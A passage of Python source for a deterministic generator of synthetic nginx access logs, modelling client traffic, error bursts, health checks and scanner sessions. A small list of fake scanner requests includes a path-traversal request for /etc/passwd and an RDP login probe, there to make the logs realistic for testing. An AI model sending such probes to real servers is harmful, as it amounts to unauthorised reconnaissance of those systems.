        clients[rank] = _Client(addr, kind, ua, user, xff)

    v6_proxies = [_v6(_DB8 | (p << 80) | rng.randrange(1, 0x400)) for p in isps[:40]]
    for c in clients:
        if c.xff is None:
            if c.kind in ("browser", "app"):
                others = v6_proxies if ":" in c.addr else v4
                c.xff = _xff_chain(rng, c.addr, others)
            else:
                c.xff = c.addr
    return clients, v4


class _Model:
    """Everything precomputed for one (format, seed)."""

    c_pool: list[list[str]]  # per client: its request pool
    c_head: list[str]  # per client: "addr - user" (main: " - user")
    c_tail: list[str]  # per client: '"ua"' (main: '"ua" "xff"')
    c_kind: list[str]
    cum: list[float]  # Zipf cumulative weights over the ranks
    burst_pools: dict[tuple[str, int], list[str]]
    v4: list[str]


@functools.lru_cache(maxsize=4)
def _model(fmt: str, seed: int) -> _Model:
    # own RNG stream (str seeds are hashed with SHA-512: stable across runs),
    # so the model can be cached across calls
    rng = random.Random(f"genlog-model-{seed}")
    m = _Model()
    clients, m.v4 = _build_clients(rng)
    bots = _pool(rng, _bot_req)
    pools = {
        "browser": _pool(rng, _browser_req),
        "app": _pool(rng, _app_req),
        "script": _pool(rng, _script_req),
        "scanner": _pool(rng, _scanner_req),
        "linkchecker": bots,
        "googlebot": bots,
        "bingbot": bots,
        "gptbot": bots,
        "claudebot": bots,
    }
    m.burst_pools = {
        (k, s): [_burst_req(rng, s, k == "app") for _ in range(1024)]
        for k in ("browser", "app")
        for s in (500, 502, 503, 504)
    }
    uas: dict[str | None, str] = {}  # one string per distinct UA
    c_ua = [
        uas.setdefault(c.ua, f'"{"-" if c.ua is None else nginx_escape(c.ua)}"')
        for c in clients
    ]
    users = ["-" if c.user == "-" else nginx_escape(c.user) for c in clients]
    m.c_pool = [pools[c.kind] for c in clients]
    if fmt == "main":  # and `timed`, which appends fields to `main`
        m.c_head = [f" - {u}" for u in users]
        xffs = [nginx_escape(c.xff or "-") for c in clients]
        m.c_tail = [f'{u} "{x}"' for u, x in zip(c_ua, xffs, strict=True)]
    else:
        m.c_head = [f"{c.addr} - {u}" for c, u in zip(clients, users, strict=True)]
        m.c_tail = c_ua
    m.c_kind = [c.kind for c in clients]
    m.cum = list(
        itertools.accumulate(1.0 / (r + ZIPF_Q) ** ZIPF_S for r in range(POOL_SIZE))
    )
    return m


# ---------------------------------------------------------------------------
# time
# ---------------------------------------------------------------------------
def _parse_start(start: str) -> tuple[int, int, str]:
    dt = _dt.datetime.fromisoformat(start.replace("Z", "+00:00"))
    if dt.tzinfo is None:
        dt = dt.replace(tzinfo=_dt.UTC)
    offset = dt.utcoffset()
    off = int(offset.total_seconds()) if offset is not None else 0
    sign = "+" if off >= 0 else "-"
    tz = f"{sign}{abs(off) // 3600:02d}{abs(off) % 3600 // 60:02d}"
    return int(dt.timestamp()), off, tz


def _time_fmt(off: int, tz: str):
    def fmt(sec: int) -> str:
        t = time.gmtime(sec + off)
        return (
            f"{t.tm_mday:02d}/{MONTHS[t.tm_mon - 1]}/{t.tm_year}:"
            f"{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d} {tz}"
        )

    return fmt


def _poisson(rng: random.Random, lam: float) -> int:
    if lam < 12:
        limit, k, p = math.exp(-lam), 0, rng.random()
        while p > limit:
            k += 1
            p *= rng.random()
        return k
    return max(0, int(rng.gauss(lam, math.sqrt(lam)) + 0.5))


# ---------------------------------------------------------------------------
# generator
# ---------------------------------------------------------------------------
def _garbage_deck(rng: random.Random) -> list[tuple[bytes | str | None, int, int]]:
    """Hostile/odd request lines (raw bytes, None = "-"), status, body size.
    Dealt from a shuffled deck so that every kind shows up regularly."""
    deck: list[tuple[bytes | str | None, int, int]] = [
        (None, 400, 0),  # connection closed before a request line
        (b"", 400, 0),
        ("hello", 400, 157),
        ("hello", 400, 157),  # TLS on the plain port
        ("proxy", 400, 157),  # a second PROXY header from the client itself
        (b"\x00", 400, 157),
        (b"get / HTTP/1.1", 400, 157),  # methods are case-sensitive
        (b"PRI * HTTP/2.0", 400, 157),  # h2c prior knowledge
        (b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400, 157),
        (b"SSH-2.0-Go", 400, 157),
        (b"MGLNDD_203.0.113.7_80", 400, 157),
        (b"GET /a HTTP/1.0", 404, NGINX_PAGE[404]),
        (b"GET / HTTP/1.1", 400, 157),  # HTTP/1.1 without Host
        (b"GET /../../../../etc/passwd HTTP/1.1", 400, 157),
    ]
    rng.shuffle(deck)
    return deck


def _iter_chunks(fmt: str, seed: int, start: str, rate: float):
    if fmt not in LOG_FORMATS:
        msg = f"unknown format {fmt!r} (choose from {', '.join(FORMATS)})"
        raise ValueError(msg)
    if not rate > 0:
        msg = "rate must be positive"
        raise ValueError(msg)
    # timings draw from their own stream: `timed` is `main` plus two fields
    timed = random.Random(f"genlog-timing-{seed}") if fmt == "timed" else None
    fmt = _BASE_FORMAT.get(fmt, fmt)
    m = _model(fmt, seed)
    c_pool, c_head, c_tail, c_kind = m.c_pool, m.c_head, m.c_tail, m.c_kind
    cum, burst_pools, v4 = m.cum, m.burst_pools, m.v4
    prange = range(POOL_SIZE)
    is_main = fmt == "main"
    is_elb = fmt == "elb_log"
    xff_none = ' "-"' if is_main else ""

    rng = random.Random(seed)
    rnd, rb = rng.random, rng.getrandbits

    # scanners: a few recurring addresses plus one-offs
    isps = [rng.getrandbits(16) for _ in range(64)]
    recurring = [rng.choice(v4) for _ in range(20)]
    recurring += [_random_v6(rng, isps) for _ in range(10)]

    def scanner_addr() -> str:
        if rnd() < 0.5:
            return rng.choice(recurring)
        return rng.choice(v4) if rnd() < 0.6 else _random_v6(rng, isps)

    deck: list[tuple[bytes | str | None, int, int]] = []

    epoch, off, tz = _parse_start(start)
    tfmt = _time_fmt(off, tz)
    sec = epoch - 1
    health_offsets = [(i * 7 + 3) % HEALTH_INTERVAL for i in range(len(LB_NODES))]
    day_phase = 2 * math.pi / 86400.0
    n_alb = len(ALB_NODES)

    line_no = 0  # global index of the first line of the chunk
    slot_c = [0] * (1 << SLOT_BITS)
    slot_left = [0] * (1 << SLOT_BITS)
    pending: list[tuple[int, int, str, tuple]] = []
    seq = itertools.count()
    next_session = rng.randrange(20, GARBAGE_GAP)
    next_burst = rng.randrange(*FIRST_BURST)
    burst_end, burst_status, burst_p = -1, 502, 0.0

    while True:
        # ---- timestamps: Poisson per second, daily cycle, plus health checks
        times: list[str] = []
        secs: list[int] = []
        health: list[tuple[int, int]] = []
        while len(times) < CHUNK:
            sec += 1
            lam = rate * (1.0 + 0.4 * math.sin(day_phase * (sec + off) - 2.0))
            k = _poisson(rng, lam)
            ts = tfmt(sec)
            if k:
                times += [ts] * k
                secs += [sec] * k
            for node, hoff in enumerate(health_offsets):
                if sec % HEALTH_INTERVAL == hoff:
                    health.append((len(times), node))
                    times.append(ts)
                    secs.append(sec)
        n = len(times)
        end = line_no + n

        # a few lines written late, stamped with an earlier second
        for _ in range(_poisson(rng, n * OUT_OF_ORDER)):
            p = rng.randrange(n)
            times[p] = tfmt(max(epoch, secs[p] - 1 - rb(1)))

        # ---- clients: visits of Zipf-drawn clients, 2**SLOT_BITS interleaved
        fresh = rng.choices(prange, cum_weights=cum, k=n // 4 + 8)
        fi = 0
        cidx = [0] * n
        for j in range(n):
            s = rb(SLOT_BITS)
            if slot_left[s] <= 0:
                if fi == len(fresh):
                    fresh += rng.choices(prange, cum_weights=cum, k=n)
                slot_c[s] = fresh[fi]
                fi += 1
                slot_left[s] = int(-VISIT_MEAN * math.log(1.0 - rnd())) + 1
            slot_left[s] -= 1
            cidx[j] = slot_c[s]

        # ---- the bulk
        if is_main:
            nodes = [ALB_NODES[int(rnd() * n_alb)] for _ in range(n)]
            lines = [
                f"{nd}{c_head[c]} [{t}] {c_pool[c][rb(REQ_BITS)]} {c_tail[c]}\n"
                for nd, c, t in zip(nodes, cidx, times, strict=True)
            ]
        else:
            lines = [
                f"{c_head[c]} [{t}] {c_pool[c][rb(REQ_BITS)]} {c_tail[c]}\n"
                for c, t in zip(cidx, times, strict=True)
            ]

        # ---- 5xx bursts (upstream trouble): hit browser and app traffic
        pos = line_no
        while pos < end:
            if pos > burst_end:
                if next_burst >= end:
                    break
                pos = next_burst
                burst_end = next_burst + rng.randrange(40, 600)
                burst_status = rng.choice((502, 502, 503, 504, 504, 500))
                burst_p = rng.uniform(0.3, 0.9)
                next_burst = burst_end + int(rng.expovariate(1.0 / BURST_GAP)) + 1
            stop = min(burst_end + 1, end)
            bpb = burst_pools["browser", burst_status]
            bpa = burst_pools["app", burst_status]
            for g in range(pos, stop):
                j = g - line_no
                c = cidx[j]
                kind = c_kind[c]
                if (kind == "browser" or kind == "app") and rnd() < burst_p:
                    req = (bpa if kind == "app" else bpb)[rb(10)]
                    head = nodes[j] + c_head[c] if is_main else c_head[c]
                    lines[j] = f"{head} [{times[j]}] {req} {c_tail[c]}\n"
            pos = stop

        # ---- scanner sessions: path probes and garbage request lines
        while next_session < end:
            addr = scanner_addr()
            ua = rng.choice(SCANNER_UAS)
            uaq = '"-"' if ua is None else f'"{nginx_escape(ua)}"'
            g = next_session
            for _ in range(rng.randrange(1, 7)):
                if rnd() < 0.6:
                    if not deck:
                        deck = _garbage_deck(rng)
                    item: tuple = ("garbage", addr, deck.pop())
                else:
                    item = ("probe", addr, uaq, _scanner_req(rng))
                heapq.heappush(pending, (g, next(seq), item[0], item[1:]))
                g += rng.randrange(1, 6)
            next_session += int(rng.expovariate(1.0 / GARBAGE_GAP)) + 1
        while pending and pending[0][0] < end:
            g, _, kind, payload = heapq.heappop(pending)
            j = g - line_no
            t = times[j]
            if kind == "probe":
                addr, uaq, req = payload
                if is_main:  # through the ALB
                    node = ALB_NODES[int(rnd() * n_alb)]
                    lines[j] = f'{node} - - [{t}] {req} {uaq} "{addr}"\n'
                else:
                    lines[j] = f"{addr} - - [{t}] {req} {uaq}\n"
                continue
            addr, (raw, st, sz) = payload
            if raw == "hello":
                raw = _client_hello(rng)
            elif raw == "proxy":
                port = rng.randrange(1024, 65536)
                if ":" in addr:
                    raw = f"PROXY TCP6 {addr} 2001:db8:10::80 {port} 80".encode()
                else:
                    raw = f"PROXY TCP4 {addr} 203.0.113.7 {port} 80".encode()
            reqf = "-" if raw is None else nginx_escape(raw)
            first = addr  # elb_log: the address from the ELB's PROXY header
            if is_elb and rnd() < 0.12 and not reqf.startswith("PROXY "):
                first = "-"  # PROXY UNKNOWN: no client address
            # main: garbage never passes an ALB; these hit the instance directly
            lines[j] = f'{first} - - [{t}] "{reqf}" {st} {sz} "-" "-"{xff_none}\n'

        # ---- LB health checks (elb_log: separate port without PROXY -> "-")
        for j, node in health:
            first = "-" if is_elb else LB_NODES[node]
            lines[j] = (
                f'{first} - - [{times[j]}] "GET /health HTTP/1.1" 200 2 '
                f'"-" "{HEALTH_UA}"{xff_none}\n'
            )

        if timed is not None:
            _timings(lines, timed)
        line_no = end
        yield lines


def generate(
    format: str,
    lines: int,
    seed: int = DEFAULT_SEED,
    out: BinaryIO | None = None,
    start: str = DEFAULT_START,
    rate: float = DEFAULT_RATE,
) -> int | bytes:
    """Write ``lines`` log lines in ``format`` to the binary file ``out``.

    Returns the number of lines written, or the bytes themselves when ``out``
    is None.
    """
    buf: list[bytes] = []
    write = buf.append if out is None else out.write
    left = int(lines)
    if left > 0:
        for chunk in _iter_chunks(format, seed, start, rate):
            if len(chunk) >= left:
                write("".join(chunk[:left]).encode("ascii"))
                break
            write("".join(chunk).encode("ascii"))
            left -= len(chunk)
    if out is None:
        return b"".join(buf)
    return max(int(lines), 0)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(
        description="Write a deterministic synthetic nginx access log."
    )
    ap.add_argument("--format", required=True, choices=FORMATS)
    ap.add_argument("--lines", required=True, type=int)
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED)
    ap.add_argument(
        "--start",
        default=DEFAULT_START,
        help="ISO 8601 time of the first line (default %(default)s)",
    )
    ap.add_argument(
        "--rate",
        type=float,
        default=DEFAULT_RATE,
        help="mean lines per second over a day (default %(default)s)",
    )
    ap.add_argument("-o", "--output", required=True, help="path, or - for stdout")
    a = ap.parse_args(argv)
    if a.output == "-":
        try:
            generate(a.format, a.lines, a.seed, sys.stdout.buffer, a.start, a.rate)
            sys.stdout.buffer.flush()
        except BrokenPipeError:  # e.g. piped into head
            os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
    else:
        with open(a.output, "wb", buffering=1 << 20) as f:  # noqa: PTH123
            generate(a.format, a.lines, a.seed, f, a.start, a.rate)
    return 0


if __name__ == "__main__":
    sys.exit(main())
